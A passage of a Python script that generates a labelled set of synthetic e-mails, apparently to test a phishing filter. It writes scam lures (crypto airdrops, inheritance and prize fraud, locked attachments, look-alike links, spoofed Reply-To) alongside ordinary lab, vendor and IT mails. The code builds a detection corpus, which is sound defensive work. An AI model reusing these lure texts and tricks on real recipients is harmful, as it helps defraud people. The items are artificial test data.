    m = Mail(rng, f"{rng.choice('abcdef')}{rng.randrange(1000, 9999)}@{rng.choice(PLAIN)}", ["Ministério da Fazenda", "Buchhaltung", "Service facturation", "Amministrazione", "Administratie"][n], "1").auth(spf="none", dkim="none", dmarc="none").text(words)
    return m.file("1.pdf", pdf(locked=True), "application/pdf") if n % 2 == 0 else m.file("1.zip", locked({"1.js": "x"}))


def a_coins(rng, n):
    words = ["Claim your airdrop today: 300 tokens are reserved, only wallets that are eligible for the airdrop receive them.", "Cloud bitcoin mining went on while you were away. Your total balance is 0.84 BTC. Withdraw your BTC before it is given to others.",
             "Você foi selecionado aleatoriamente para receber um prêmio em dinheiro: uma doação de 900 mil dólares da Fundação Lima.", "Ha sido seleccionado al azar: un donativo de dos millones de dólares para usted. Escriba para recibir el premio.", "Alerta de segurança: sua conta foi usada em um novo dispositivo."][n]
    link = ["https://t.co/a1B2c3", "https://translate.google.com/translate?sl=auto&tl=en&u=login.coin-desk-office.example/auth", "", "", "https://7.0.2.192.host.secureserver.net/n/"][n]
    sender, name = [("news@ecom-mailer.example", "Bitget Airdrop"), ("office@" + PLAIN[1], "Mining Team"), ("lima.ana88@gmail.com", "Ana Lima"), ("m.soler91@hotmail.es", "M. Soler"), ("root@" + PLAIN[3], "Mercado Pago")][n]
    m = Mail(rng, sender, name, "Your balance" if n < 2 else "1", **({"Reply_To": "ana.lima.fund@bluewin.ch"} if n in (1, 2, 3) else {})).auth(**GOOD_AUTH)
    return m.html(f"<p>{words}</p><a href='{link}'>1</a>") if link else m.text(words)


def a_inheritance(rng, n):
    words = ["I am a widow with cancer and have decided to donate 8.5 million dollars to charity through you. Contact me.", "Ich habe beschlossen, Ihnen eine Spende von 2 Millionen Euro aus dem Nachlass meines verstorbenen Mannes zu geben.", "Je vous fais un don de 1,5 millions euros, héritage de mon mari décédé.",
             "Quero que me ajude a investir 8 milhões de dólares que herdei do meu falecido pai.", "Deseo transferir a su cuenta la herencia de mi fallecido esposo, 5 millones de dólares. Usted será el beneficiario."][n]
    return Mail(rng, f"office{n}@{rng.choice(PLAIN)}", ["Mrs Ruth", "Frau Anna", "Mme Claire", "Joana", "Señora Luz"][n], "Hello", Reply_To=f"private{rng.randrange(99)}@gmail.com").auth(spf="softfail", dkim="none", dmarc="none").text(words)


# ── legitimate ──
GOOD_AUTH = {"spf": "pass", "dkim": "pass", "dmarc": "pass"}


def l_colleague(rng, n):
    person = rng.choice(PEOPLE)
    words = [("Rota for next week", "Hi all,\n\nthe rota for next week is on the board. Tom swaps Tuesday with Priya.\n\nBest,\n"), ("QC lot change", "The new control lot 4471 goes in on Monday. Please finish the old one first.\n\n"),
             ("Re: centrifuge noise", "I called the service; they come on Thursday morning between 8 and 10. Please keep it switched off until then.\n\n"),
             ("Cumpleaños", "El viernes llevamos tarta a la sala de descanso a las 11. ¡Venid!\n\n"), ("Minutes of the quality meeting", "The minutes are attached. Please send corrections by Friday.\n\n")][n]
    more = {"In_Reply_To": "<1@x>"} if n == 2 else {}
    m = Mail(rng, f"{person[1]}@{LAB}", person[0], words[0], **more).auth(**GOOD_AUTH).text(words[1] + person[0])
    return m.file("minutes.docx", docx()) if n == 4 else m


def l_it_notice(rng, n):
    words = [("Maintenance on Saturday", "The LIS is down on Saturday from 02:00 to 04:00 for an upgrade. Downtime forms are in the red folder."),
             ("Your password expires in 10 days", f"Your password expires in 10 days. Change it with Ctrl-Alt-Del at any lab PC, or in the portal https://portal.{LAB}/password. We never ask for it by mail."),
             ("Phishing test results", "Thank you: 84 per cent of you reported last month's phishing exercise. Never sign in by a link in a mail; forward anything odd to us."),
             ("New printers", "The label printers on bench 3 were replaced. Choose ZEBRA-B3 in the LIS."), ("Multi-factor sign-in starts on 1 December", f"From 1 December you need a passkey or the app to sign in. Set it up with us at the help desk in room 12, or follow https://intranet.{LAB}/mfa.")][n]
    return Mail(rng, f"it@{LAB}", "IT Help Desk", words[0]).auth(**GOOD_AUTH).text("Hello everybody,\n\n" + words[1] + "\n\nIT\n")


def l_newsletter(rng, n):
    host, name = [("news.labmedicine-weekly.example", "Lab Medicine Weekly"), ("mail.pathology-today.example", "Pathology Today"), ("e.conference-lab.example", "LabCon 2027"), ("email.aacc-news.example", "Clinical Chemistry News"), ("boletin.laboratorio-hoy.example", "Laboratorio Hoy")][n]
    site = ".".join(host.split(".")[-2:])
    items = "".join(f"<h3>{t}</h3><p>{w} <a href='https://click.{rng.choice(['mailer-services.example', site])}/c/{rng.getrandbits(60):x}'>{s}</a></p>" for t, w, s in
                    [("Sample stability", "New data on potassium.", "Read more"), ("Save 20% on registration", "Limited time offer, register now.", f"www.{site}"), ("Webinar", "Free webinar on middleware.", "Sign up today")])
    return Mail(rng, f"news@{host}", name, [f"{name}: issue 47", "This week: hemolysis", "Last chance to register", "CE credits inside", "Boletín de noviembre"][n], bounce=f"bounce-{rng.getrandbits(40):x}@mailer-services.example",
                List_Unsubscribe=f"<https://click.mailer-services.example/u/{rng.getrandbits(40):x}>", List_Id=f"<{site}>", Precedence="bulk").auth(**GOOD_AUTH).html(
        f"<div style='display:none'>Preheader text of the issue</div><img src='https://open.mailer-services.example/o.gif' width=1 height=1>{items}<p>You receive this because you subscribed. <a href='https://click.mailer-services.example/u/1'>Unsubscribe</a></p>")


def l_shop(rng, n):
    sender, name, link = [("auto-confirm@amazon.com", "Amazon.com", "https://www.amazon.com/gp/your-account/order"), ("order@fishersci.com", "Fisher Scientific", "https://www.fishersci.com/orders/991"),
                          ("service@paypal.com", "PayPal", "https://www.paypal.com/activity/5"), ("noreply@vwr.com", "VWR", "https://www.vwr.com/order/2"), ("pedidos@tienda-lab.example", "Tienda Lab", "https://tienda-lab.example/pedido/77")][n]
    words = ["Your order of 3 items has shipped and arrives on Thursday.", "Order confirmation: your purchase order 5512 was received. The invoice follows.", "You sent a payment of $42.10 to Lab Supplies. View the details of your transaction.",
             "Your order is delayed by two days.", "Gracias por su pedido. El envío llegará el jueves."][n]
    return Mail(rng, sender, name, ["Your order has shipped", "Order confirmation", "Receipt for your payment", "Order delayed", "Su pedido"][n]).auth(**GOOD_AUTH).html(f"<p>Hello,</p><p>{words}</p><a href='{link}'>View order</a>")


def l_carrier(rng, n):
    sender, name, link = [("TrackingUpdates@fedex.com", "FedEx", "https://www.fedex.com/fedextrack/?trknbr=7712"), ("mcinfo@ups.com", "UPS", "https://www.ups.com/track?num=1Z"), ("noreply@dhl.com", "DHL Express", "https://www.dhl.com/track?id=5"),
                          ("auto-reply@usps.com", "USPS", "https://tools.usps.com/go/TrackConfirmAction?l=9"), ("informacion@correos.es", "Correos", "https://www.correos.es/localizador?n=4")][n]
    words = ["Your package is scheduled for delivery today before 12:00.", "A UPS delivery is on its way.", "Your shipment was delivered. Signed by: FRONT DESK.", "We attempted delivery of your item; schedule redelivery online.", "Su envío será entregado mañana."][n]
    return Mail(rng, sender, name, "Delivery update").auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='{link}'>Track your package</a>")


def l_account(rng, n):
    sender, name, link = [("account-security-noreply@accountprotection.microsoft.com", "Microsoft account team", "https://account.live.com/activity"), ("no-reply@accounts.google.com", "Google", "https://myaccount.google.com/notifications"),
                          ("noreply@github.com", "GitHub", "https://github.com/settings/security"), ("dse@docusign.net", "Grace Kim via DocuSign", "https://na4.docusign.net/Signing/StartInSession.aspx?t=9"), ("no-reply@sharepointonline.com", "Tom Becker", "https://sunriselab.sharepoint.com/:x:/g/abc")][n]
    words = ["We noticed a new sign-in to your Microsoft account. If this was you, you can ignore this message. If not, review your activity.", "A new sign-in on Windows. We noticed a new sign-in to your Google Account. If this was you, you don't need to do anything. If not, we will help you secure your account.",
             "A new public key was added to your account. If you did not do this, review your security settings.", "Grace Kim sent you a document to review and sign.", "Tom Becker shared a file with you: QC plan.xlsx"][n]
    return Mail(rng, sender, name, ["New sign-in", "Security alert", "A new key was added", "Please DocuSign: reagent contract", "Tom shared a file"][n]).auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='{link}'>{['Review activity', 'Check activity', 'Review', 'Review document', 'Open'][n]}</a>")


def l_vendor(rng, n):
    sender, name = [("field.service@sysmex.com", "Sysmex Service"), ("us.recalls@roche.com", "Roche Diagnostics"), ("support@datainnovations.com", "Data Innovations Support"), ("servicio.tecnico@abbott.com", "Abbott Servicio"), ("maria.keller@small-reagents.example", "Maria Keller")][n]
    words = ["Your preventive maintenance is planned for 3 December at 9:00. Our engineer Paul Roy will call you the day before.", "Urgent medical device correction: lots 12 and 14 of the glucose reagent. The letter is attached. Please return the response form by 15 December.",
             "Case 88121 was updated: the patch is tested. Sign in to the portal to see the notes: https://support.datainnovations.com/case/88121", "Adjuntamos el informe de la intervención del martes.",
             "Good morning,\n\nthank you for your order. The quotation you asked for is attached; it is valid for 30 days. Call me if you have questions: +1 (312) 555-0172.\n\nMaria"][n]
    m = Mail(rng, sender, name, ["Maintenance visit", "Urgent medical device correction", "Case 88121 updated", "Informe de servicio", "Your quotation"][n]).auth(**GOOD_AUTH).text(words)
    return m.file("letter.pdf", pdf(), "application/pdf") if n in (1, 3, 4) else m


def l_payer(rng, n):
    sender, name, link = [("noreply@uhc.com", "UnitedHealthcare", "https://www.uhcprovider.com/en/news.html"), ("cms@subscriptions.cms.hhs.gov", "CMS", "https://www.cms.gov/newsroom"), ("notifications@availity.com", "Availity", "https://apps.availity.com/login"),
                          ("do-not-reply@cap.org", "College of American Pathologists", "https://www.cap.org/laboratory-improvement"), ("info@enac.es", "ENAC", "https://www.enac.es/novedades")][n]
    words = ["Changes to laboratory payment policies take effect on 1 January.", "The clinical laboratory fee schedule was updated.", "You have a new message in your Availity inbox. Log in to read it.", "Your proficiency testing results are available. Sign in to view the evaluation.", "Nueva versión de los criterios de acreditación."][n]
    return Mail(rng, sender, name, ["Policy update", "MLN Connects", "New message", "PT results available", "Novedades"][n], **({"List_Unsubscribe": "<https://x.example/u>"} if n < 2 else {})).auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='{link}'>Read more</a>")


def l_private(rng, n):
    words = [("Lunch?", "Are you free for lunch on Thursday? I'm in town for the conference."), ("Photos from the weekend", "Here are the photos: https://photos.google.com/share/AF1Qip\n\nSee you soon!"),
             ("School trip", "Can you help us with the school trip on Friday? We need two more parents. Call me: 555 0199"), ("Receta", "Te paso la receta que me pediste. Un beso."), ("Job application", "Dear Sir or Madam,\n\nplease find my application as a phlebotomist attached.\n\nKind regards")][n]
    who = rng.choice(PEOPLE)
    m = Mail(rng, f"{who[1]}@{rng.choice(FREE)}", who[0], words[0]).auth(**GOOD_AUTH).text(words[1])
    return m.file("application.pdf", pdf(), "application/pdf") if n == 4 else m


def l_physician(rng, n):
    words = [("Question about a result", "Dear colleagues,\n\ncould you repeat the potassium of the sample from this morning? The value does not fit the patient.\n\nDr. Weber"), ("Courier pick-up", "Please send the courier at 15:00 instead of 16:00 today, we have urgent samples."),
             ("Requisition forms", "We are out of requisition forms. Could you send us 200?"), ("Resultado pendiente", "Buenas tardes, ¿tienen ya el resultado del cultivo de ayer? Gracias."), ("Fax number", "Our fax number has changed to (312) 555-0188 as of Monday. Please send results there.")][n]
    return Mail(rng, f"office@{['weber-practice', 'northclinic', 'stjohn-medical', 'clinica-sur', 'family-care'][n]}.example", ["Dr. Weber", "North Clinic", "St. John Medical", "Clínica Sur", "Family Care"][n], words[0]).auth(**GOOD_AUTH).text(words[1])


def l_invoice(rng, n):
    words = ["Please find attached invoice 2026-1188 for the maintenance in October. Payment is due within 30 days.", "Your monthly statement is attached. Thank you for your business.", "Invoice 4471 is attached. Our bank details are unchanged.",
             "Adjuntamos la factura del mes de octubre. Un saludo.", "Reminder: invoice 118 was due on 1 November. If you have paid already, please ignore this message."][n]
    return Mail(rng, f"billing@{['cleanair-hvac', 'medwaste-pickup', 'labcoat-laundry', 'suministros-norte', 'watertech'][n]}.example", ["CleanAir HVAC", "MedWaste Pickup", "LabCoat Laundry", "Suministros Norte", "WaterTech"][n], ["Invoice 2026-1188", "Statement", "Invoice 4471", "Factura octubre", "Payment reminder"][n]).auth(**GOOD_AUTH).text(
        words).file("invoice.pdf", pdf_link(f"https://www.{['cleanair-hvac', 'medwaste-pickup', 'labcoat-laundry', 'suministros-norte', 'watertech'][n]}.example/"), "application/pdf")


def l_meeting(rng, n):
    name, host = [("Zoom", "us02web.zoom.us/j/881"), ("Microsoft Teams", "teams.microsoft.com/l/meetup-join/19"), ("Webex", "acme.webex.com/meet/x"), ("Google Meet", "meet.google.com/abc-defg"), ("Zoom", "zoom.us/webinar/register/WN")][n]
    ics = f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Quality meeting\r\nDESCRIPTION:Join: https://{host}\\nDial in: +1 312 555 0100\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    who = rng.choice(PEOPLE)
    m = Mail(rng, f"{who[1]}@{rng.choice([LAB, 'partner-hospital.example'])}", who[0], "Invitation: Quality meeting").auth(**GOOD_AUTH)
    m.text(f"You are invited to a meeting. Join here: https://{host}")
    m.parts.append(('text/calendar; method=REQUEST; charset=utf-8', None, ics.encode(), None))
    return m


def l_survey(rng, n):
    words = ["Thank you for calling our support. Please tell us how we did.", "Your opinion matters: two minutes for the safety survey.", "Rate your last delivery.", "Encuesta de satisfacción: su opinión nos ayuda.", "Choose your shift for the holidays in this form."][n]
    host = ["www.surveymonkey.com/r/8X", "forms.office.com/r/abc", "delivery-feedback.example/r/1", "docs.google.com/forms/d/e/1FA/viewform", "forms.gle/xyz"][n]
    sender = ["support@datainnovations.com", f"quality@{LAB}", "care@delivery-feedback.example", "calidad@clinica-sur.example", f"manager@{LAB}"][n]
    return Mail(rng, sender, ["Support", "Quality", "Delivery feedback", "Calidad", "Lab Manager"][n], "Survey").auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='https://{host}'>Start</a>")


def l_saas(rng, n):
    host = ["shiftplan.example", "coldchain-monitor.example", "lms-training.example", "badgeprint.example", "turnos.example"][n]
    words = ["Verify your e-mail address to finish setting up your account.", "Freezer 3 is at -68 °C: above the limit for 15 minutes. Acknowledge the alarm.", "Your course 'Bloodborne pathogens' is due in 7 days. Log in to complete it.",
             "Reset your password: somebody asked for a new password for your account. If it was not you, ignore this mail. The link is valid for 24 hours.", "Su turno del lunes ha cambiado. Inicie sesión para verlo."][n]
    return Mail(rng, f"no-reply@{host}", host.split(".")[0].title(), ["Confirm your e-mail", "Alarm: freezer 3", "Training due", "Password reset", "Cambio de turno"][n]).auth(**GOOD_AUTH).html(f"<p>Hi,</p><p>{words}</p><a href='https://app.{host}/t/{rng.getrandbits(50):x}'>Open</a>")


def l_discussion(rng, n):
    words = ["Has anybody seen delta check failures after the middleware upgrade? We had to reset the passwords of all users. http://bit.ly/2x shows the graph.", "> did you click on the link in that phishing mail?\n\nNo, I reported it. It said 'verify your account'.",
             "The vendor's portal moved to http://203.0.113.9:8443/portal, for those who asked.", "Call for papers: submissions close in 48 hours. Act now!", "Re: urgent: bank holiday cover. I can take Monday."][n]
    return Mail(rng, f"member{n}@hospital{n}.example", rng.choice(PEOPLE)[0], "[lab-talk] " + words[:30], to_header="lab-talk@lists.labtalk.example", List_Id="<lab-talk.lists.labtalk.example>",
                List_Post="<mailto:lab-talk@lists.labtalk.example>", Precedence="list", bounce="lab-talk-bounces@lists.labtalk.example").text(words)


def l_hr(rng, n):
    words = ["Open enrollment for benefits is from 1 to 15 December. Details are on the intranet.", "Your pay slip for November is in the HR portal as usual.", "The holiday calendar is attached.", "Las nóminas de noviembre ya están en el portal del empleado.", "Please complete the annual conflict of interest form by Friday."][n]
    m = Mail(rng, f"hr@{LAB}", "Human Resources", ["Open enrollment", "Pay slip", "Holidays", "Nóminas", "Annual form"][n]).auth(**GOOD_AUTH).text(words + f"\nhttps://intranet.{LAB}/hr\n")
    return m.file("calendar.pdf", pdf(), "application/pdf") if n == 2 else m


def l_files(rng, n):
    m = Mail(rng, f"{rng.choice(PEOPLE)[1]}@partner-hospital.example", "Partner Hospital", ["Validation data", "Price list", "Pictures", "Logs", "Protocol"][n]).auth(**GOOD_AUTH)
    m.text(["The raw data of the comparison is attached.", "Our price list for next year.", "Pictures of the damaged tubes.", "The logs that support asked for.", "The protocol for your signature."][n])
    return [lambda: m.file("data.zip", archive({"comparison.csv": "a,b\n", "notes.txt": "x"})), lambda: m.file("prices.xlsx", archive({"[Content_Types].xml": "", "xl/workbook.xml": ""})), lambda: m.file("tube.png", png(rng), "image/png"),
            lambda: m.file("log.gz", gzip.compress(b"2026-11-17 ok\n" * 50, mtime=0)), lambda: m.file("protocol.docx", docx())][n]()


def l_locked(rng, n):
    words = ["Your payslip for November is attached. The password is your date of birth.", "Anbei Ihre Gehaltsabrechnung. Das Passwort der Datei ist Ihr Geburtsdatum.", "Adjuntamos su extracto de noviembre. La clave del archivo son los últimos cuatro dígitos de su DNI.",
             "Segue em anexo o holerite. A senha do arquivo é o seu CPF.", "Vous trouverez en pièce jointe votre bulletin de paie. Le mot de passe du fichier est votre date de naissance."][n]
    host = ["payroll-bureau.example", "lohnbuero-maier.example", "banco-norte.example", "folha-certa.example", "paie-durand.example"][n]
    return Mail(rng, f"no-reply@{host}", "Payroll", "November 2026").auth(**GOOD_AUTH).text(words).file("2026-11.pdf", pdf(locked=True), "application/pdf")


def l_abroad(rng, n):
    host = ["huber-labortechnik.example", "streeklab.example", "biologie-martin.example", "laboratoriorossi.example", "labteste.example"][n]
    words = ["Sehr geehrte Frau Ruiz, Ihre Lieferung kommt am Dienstag. Herzlichen Glückwunsch zum Jubiläum.", "Beste klant, de bezorging van de monsters is vertraagd. Volg de levering op onze website.", "Cher client, votre facture de novembre est disponible dans votre espace.",
             "Gentile cliente, in allegato la fattura n. 112. Il concorso per tecnici scade il 30.", "Prezado cliente, segue a nota fiscal 4410 do seu pedido."][n]
    return Mail(rng, f"info@{host}", host.split(".")[0].title(), ["Lieferung", "Bezorging", "Facture", "Fattura", "Nota fiscal"][n]).auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='https://www.{host}/x'>www.{host}</a>")


def l_pickup(rng, n):
    sender, name, site = [("noreply@lockers.example", "City Lockers", "lockers.example"), ("versand@paketbox.example", "Paketbox", "paketbox.example"), ("avisos@puntopaquete.example", "Punto Paquete", "puntopaquete.example"), ("paczki@marketmail.example", "InPost (via Poczta Market)", "inpost.pl"), ("thehub@amazon.com", "The Hub", "thehub.amazon.com")][n]
    words = ["Your parcel has arrived and is ready to collect. Pick-up code: 481516. Scan this QR code at the locker, or enter the code.", "Ihre Sendung ist bereit zur Abholung. Abholcode 2342. Halten Sie den QR-Code vor den Scanner.", "Su paquete le espera. Código de recogida 108. Escanee el código en el lector del armario.",
             "Pora na Twój ruch! Paczka od Ana Ruiz czeka w Paczkomacie ABC33A przez 48 godzin, potem wróci do nadawcy. Aby ją odebrać, zeskanuj kod QR, przykładając go do czytnika, lub wpisz numer telefonu i kod odbioru 777888.", "Your package is ready for pickup. Scan or enter the pickup code: 815162. Please scan the barcode at the locker. This address cannot accept incoming email."][n]
    return Mail(rng, sender, name, "Your parcel").auth(**GOOD_AUTH).html(f"<p>{words}</p><img src='https://{site}/qr/1.png' alt='QR code'><a href='https://{site}/where'>Where it is</a>")


def l_raffle(rng, n):
    sender, name = [("news@labmanagers.example", "Lab Managers"), ("newsletter@info.sysmex-europe.com", "Sysmex Europe"), ("newsletter@news.sarstedt.com", "Sarstedt"), ("news@news.ikea.com", "IKEA Family"), ("rewards@iluv.southwest.com", "Southwest")][n]
    words = ["Win a free registration: answer three questions in our survey.", "Visit our booth and take part in our raffle: win a tablet!", "Nehmen Sie an unserem Gewinnspiel teil und gewinnen Sie einen Gutschein.", "Canjea tus puntos por un regalo.", "Your points are expiring soon: redeem points for a gift card."][n]
    site = sender.split("@")[1]
    return Mail(rng, sender, name, "News", List_Unsubscribe=f"<https://{site}/u>").auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='https://{site}/go'>More</a>")


def l_unsigned(rng, n):
    words = ["Could you send yesterday's results of ward 4 again? The report is incomplete.", "The centrifuge will be serviced on Monday at nine.", "¿Pueden recoger las muestras a las once?", "Attached is the rota of the clinic.", "Können Sie die Proben am Freitag abholen?"][n]
    m = Mail(rng, f"office@small-clinic{n}.example", "Small Clinic", "Samples").auth(spf=["none", "softfail", "none", "none", "softfail"][n], dkim="none", dmarc="none").text(words)
    return m.file("rota.pdf", pdf(), "application/pdf") if n == 3 else m


def l_services(rng, n):
    sender, name, url = [("notifications@linkedin.com", "LinkedIn", "https://www.linkedin.com/comm/messaging/"), ("no-reply@sns.amazonaws.com", "AWS Notifications", "https://sns.eu-central-1.amazonaws.com/x"), ("noreply@service.dpd.de", "DPD", "https://my.dpd.de/x"),
                         ("lena@praxis-vogt.onmicrosoft.com", "Lena Vogt", "https://www.dhl.de/x"), ("versand@amazon.de", "Amazon.de", "https://www.amazon.de/gp/css/order-history")][n]
    words = ["You have 3 new messages.", "The alarm 'disk' entered the ALARM state.", "Ihr Paket von Sarstedt ist unterwegs.", "Die Proben sind unterwegs.", "Ihre Bestellung wurde versandt."][n]
    return Mail(rng, sender, name, "Update").auth(**GOOD_AUTH).html(f"<p>{words}</p><a href='{url}'>Open</a>")


def main():
    folder = pathlib.Path(sys.argv[1])
    made = 0
    for prefix, kind in (("a_", "attack"), ("l_", "legitimate")):
        (folder / kind).mkdir(parents=True, exist_ok=True)
        for name, make in sorted(globals().items()):
            if not name.startswith(prefix) or not callable(make):
                continue
            for wording in range(5):
                for copy in range(2):
                    rng = random.Random(f"{name} {wording} {copy}")
                    (folder / kind / f"{name[2:]}-{wording}-{copy}.eml").write_bytes(make(rng, wording).bytes())
                    made += 1
    print(made)


if __name__ == "__main__":
    main()
